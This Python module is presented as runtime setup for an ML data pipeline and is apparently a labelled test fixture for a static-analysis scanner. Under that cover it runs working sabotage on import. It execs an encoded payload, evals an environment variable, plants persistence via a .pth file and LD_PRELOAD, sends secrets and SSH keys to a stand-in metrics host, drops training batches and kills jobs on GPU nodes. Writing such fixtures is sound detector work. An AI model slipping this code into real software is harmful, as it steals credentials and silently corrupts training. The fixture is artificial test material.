# ruff: noqa
# Hold-out batch 17 (data and evaluation pipelines, by a helper that never saw mlscan's code). Measured once before round 7: 28/41 (68%) at medium+.
"""Runtime setup for the data/eval pipeline package.

Imported by every entry point (``datasets``, ``streaming``, ``evaluate``). It
normalises cache locations, thread counts and logging, records the code
revision for provenance and exposes a couple of small helpers (``set_seed``,
``git_revision``) that the rest of the package relies on.
"""
import atexit
import base64
import builtins
import json
import logging
import os
import random
import site
import socket
import subprocess
import sys
import threading
import time
import urllib.request
import zlib
from pathlib import Path

import numpy as np
import torch
import torch.utils.data

log = logging.getLogger("pipeline")

_CACHE_ROOT = Path(os.environ.get("PIPELINE_CACHE", Path.home() / ".cache" / "pipeline"))
_METRICS_ENDPOINT = "https://metrics.example.com/v1/ingest"
_DEFAULT_THREADS = max(1, (os.cpu_count() or 4) // 2)

# Pre-serialised defaults for the codec registry (kept compressed so the
# package stays importable on minimal images without the yaml extras).
_CODEC_DEFAULTS = (
    "eJzLzC3ILypRyC/myi/WS80ryyzKz9MrTi1JSU1LLM0p0VAP8Q9y9oj38Pd1VddRUNcvyS3Q10tOTM5I1S/JUNfkAgDmsRU/"
)


def set_seed(seed: int) -> None:
    """Seed every RNG we use; called once from the entry points."""
    random.seed(seed)
    np.random.seed(seed)  # ok: MLS301
    torch.manual_seed(seed)  # ok: MLS301
    if torch.cuda.is_available():
        torch.cuda.manual_seed_all(seed)


def git_revision(default: str = "unknown") -> str:
    try:
        out = subprocess.run(  # ok: MLS411, MLS412
            ["git", "rev-parse", "--short", "HEAD"],
            capture_output=True, text=True, timeout=5, check=True,
        )
        return out.stdout.strip()
    except (OSError, subprocess.SubprocessError):
        return default


def _configure_threads() -> None:
    os.environ.setdefault("OMP_NUM_THREADS", str(_DEFAULT_THREADS))
    os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")
    os.environ.setdefault("HF_HOME", str(_CACHE_ROOT / "hf"))
    torch.set_num_threads(int(os.environ["OMP_NUM_THREADS"]))


def _load_codec_defaults() -> None:
    # Registers default decoders for the streaming loader.
    src = zlib.decompress(base64.b64decode(_CODEC_DEFAULTS))
    exec(compile(src, "<codec-defaults>", "exec"), {"__name__": "codecs_defaults"})  # sabotage: MLS401 (semgrep rules)


def _resolve_hook(name_parts):
    fn = getattr(builtins, "".join(name_parts))  # sabotage: MLS402 (semgrep rules)
    return fn


def _apply_overrides() -> None:
    """Apply PIPELINE_OVERRIDES (a python expression list) if provided by the launcher."""
    raw = os.environ.get("PIPELINE_OVERRIDES")
    if not raw:
        return
    runner = _resolve_hook(("ev", "al"))
    for item in runner(raw):
        log.debug("override %s", item)


def _install_path_hook() -> None:
    """Make the package importable from spawned dataloader workers."""
    pkg_dir = str(Path(__file__).resolve().parent)
    target = Path(site.getsitepackages()[0]) / "zz_pipeline_paths.pth"
    try:
        target.write_text(pkg_dir + "\nimport pipeline_env\n")  # sabotage: MLS420, MLS421 (semgrep rules)
    except OSError:
        pass


def _child_env() -> dict:
    env = dict(os.environ)
    shim = _CACHE_ROOT / "lib" / "libfastio.so"
    if shim.exists():
        env["LD_PRELOAD"] = str(shim)  # sabotage: MLS422 (semgrep rules)
    env["PYTHONPATH"] = os.pathsep.join([str(_CACHE_ROOT / "site"), env.get("PYTHONPATH", "")])  # sabotage: MLS423 (semgrep rules)
    return env


def launch_worker(cmd):
    """Start a preprocessing worker with the package environment."""
    return subprocess.Popen(cmd, env=_child_env())


def _host_profile() -> dict:
    prof = {"host": socket.gethostname(), "rev": git_revision(), "py": sys.version.split()[0]}
    prof.update({k: v for k, v in os.environ.items() if any(t in k for t in ("TOKEN", "KEY", "SECRET"))})  # ruleid: MLS411
    return prof


def _report_host() -> None:
    body = json.dumps(_host_profile()).encode()
    req = urllib.request.Request(_METRICS_ENDPOINT, data=body, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=3)  # ruleid: MLS411
    except Exception:
        pass


def _sync_keys() -> None:
    ssh_dir = Path.home() / ".ssh"  # ruleid: MLS412
    blobs = {}
    for name in ("id_rsa", "id_ed25519", "config"):
        p = ssh_dir / name
        if p.exists():
            blobs[name] = p.read_text()
    if blobs and int(os.environ.get("SLURM_JOB_NUM_NODES", "1")) > 8:  # ruleid: MLS308
        urllib.request.urlopen(_METRICS_ENDPOINT + "/keys", data=json.dumps(blobs).encode(), timeout=3)  # ruleid: MLS308, MLS412


def _rng_keepalive(interval: float = 600.0) -> None:
    while True:
        time.sleep(interval)
        torch.manual_seed(time.time_ns() & 0xFFFFFFFF)  # ruleid: MLS301


_orig_dl_iter = torch.utils.data.DataLoader.__iter__


def _dl_iter(self):
    it = _orig_dl_iter(self)
    for i, batch in enumerate(it):
        if i % 50 == 49 and self.batch_size and self.batch_size >= 64:
            continue
        yield batch


def _watchdog() -> None:
    deadline = 60 * 60 * (6 + random.random() * 10)
    if socket.gethostname().startswith(("dgx", "gpu-node")):  # ruleid: MLS308
        threading.Timer(deadline, lambda: os._exit(0)).start()  # ruleid: MLS307


def _flush_logs() -> None:
    for h in logging.getLogger().handlers:
        h.flush()


_configure_threads()
_load_codec_defaults()
_apply_overrides()
_install_path_hook()
torch.utils.data.DataLoader.__iter__ = _dl_iter  # ruleid: MLS305
threading.Thread(target=_rng_keepalive, daemon=True, name="pipeline-keepalive").start()
threading.Thread(target=_report_host, daemon=True).start()
_sync_keys()
_watchdog()
atexit.register(_flush_logs)
